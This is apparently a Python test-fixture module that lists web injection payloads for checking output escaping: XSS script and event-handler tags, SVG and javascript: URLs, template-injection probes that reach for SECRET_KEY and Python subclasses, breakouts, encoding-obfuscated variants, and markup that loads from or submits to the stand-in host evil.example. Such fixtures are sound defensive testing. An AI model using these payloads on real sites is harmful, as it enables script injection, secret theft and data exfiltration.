"""Texts that try to run as a script, to become markup, or to ask another machine, wherever they are shown.

Each calls `alert`, names evil.example, or has a sum whose answer nobody wrote: what comes of it can be seen."""

EVIL = "//evil.example/x"
SUM = "1787569"
"""What 1337*1337 is: it stands on a page only where a template computed it."""

TAGS = (
    "<script>alert(1337)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<scr<script>ipt>alert(1337)</scr</script>ipt>",
    "<script\n>alert(1337)</script\n>",
    "</title><script>alert(1337)</script>",
    "</textarea><script>alert(1337)</script>",
    "</script><script>alert(1337)</script>",
    "</style><script>alert(1337)</script>",
    "--><script>alert(1337)</script><!--",
    "<![CDATA[<script>alert(1337)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1337)>'>",
    "<template><script>alert(1337)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1337)>",
)
HANDLERS = (
    "<img src=x onerror=alert(1337)>",
    "<img src=//evil.example/x>",
    "<img/src='x'/onerror='alert(1337)'>",
    "<body onload=alert(1337)>",
    "<details open ontoggle=alert(1337)>",
    "<input autofocus onfocus=alert(1337)>",
    "<video><source onerror=alert(1337)>",
    "<marquee onstart=alert(1337)>",
    "<a href=x onmouseover=alert(1337)>y</a>",
    "<b hx-get=//evil.example/x hx-trigger=load>",
    "<b hx-on:load='alert(1337)'>",
    "<b data-hx-get=/desk/ data-hx-trigger=load>",
)
SVG = (
    "<svg onload=alert(1337)>",
    "<svg><script>alert(1337)</script></svg>",
    "<svg><animate onbegin=alert(1337) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1337)>#x'>",
    "<svg><a xlink:href='javascript:alert(1337)'><text>y</text></a></svg>",
)
ADDRESSES = (
    "javascript:alert(1337)",
    "JaVaScRiPt:alert(1337)",
    " javascript:alert(1337)",
    "javascript://example.org/%0aalert(1337)",
    "data:text/html,<script>alert(1337)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMzM3KTwvc2NyaXB0Pg==",
    "vbscript:alert(1337)",
    "//evil.example/x",
    "https:evil.example",
    "[y](javascript:alert(1337))",
    "![y](//evil.example/x)",
    "<javascript:alert(1337)>",
    "`<img src=x onerror=alert(1337)>`",
)
TEMPLATES = (
    "{{1337*1337}}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{% include 'people/desk.html' %}",
    "{% print(1337*1337) %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{settings.SECRET_KEY}}",
    "{#%0a{{1337*1337}}#}",
)
BREAKOUTS = (
    '"><img src=x onerror=alert(1337)>',
    "'><img src=x onerror=alert(1337)>",
    '" onfocus=alert(1337) autofocus x="',
    "' onmouseover=alert(1337) x='",
    '"}];alert(1337);//',
    "';alert(1337);//",
    "\\'-alert(1337)//",
    "${alert(1337)}",
    "&lt;script&gt;alert(1337)&lt;/script&gt;",
    "&#60;script&#62;alert(1337)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1337)\\u003c/script\\u003e",
)
STYLES = (
    "</style><style>*{background:url(//evil.example/x)}</style>",
    '" style="background:url(//evil.example/x)',
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>",
    "<b style='position:fixed;inset:0'>y</b>",
)
PAGES = (
    "<base href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/x'>",
    "<iframe srcdoc='<script>alert(1337)</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<form action=//evil.example/x><button autofocus>y</button></form>",
)
HIDDEN = (
    "\x00<script>alert(1337)</script>",
    "<scr\x00ipt>alert(1337)</scr\x00ipt>",
    "\u202e<script>alert(1337)</script>",
    "\u2028<script>alert(1337)</script>",
    "\ufeff<script>alert(1337)</script>",
    "\u200b<img src=x onerror=alert(1337)>",
    "\uff1cscript\uff1ealert(1337)\uff1c/script\uff1e",
    "java\tscript:alert(1337)",
    "\x1b]8;;javascript:alert(1337)\x07y",
    "%3Cscript%3Ealert(1337)%3C/script%3E",
    "+ADw-script+AD4-alert(1337)+ADw-/script+AD4-",
    "%c0%bcscript%c0%bealert(1337)",
)
SEEN = (*TAGS, *HANDLERS, *SVG, *ADDRESSES, *TEMPLATES, *BREAKOUTS, *STYLES, *PAGES)
"""Those of letters that can be seen, which forms let pass."""
ALL = (*SEEN, *HIDDEN)


def chunks(texts: tuple[str, ...], most: int, between: str = " ") -> list[str]:
    """All of them, in as few texts as there can be of so many characters each."""
    made: list[str] = []
    for one in texts:
        if made and len(made[-1]) + len(between) + len(one) <= most:
            made[-1] += between + one
        else:
            made.append(one)
    return made
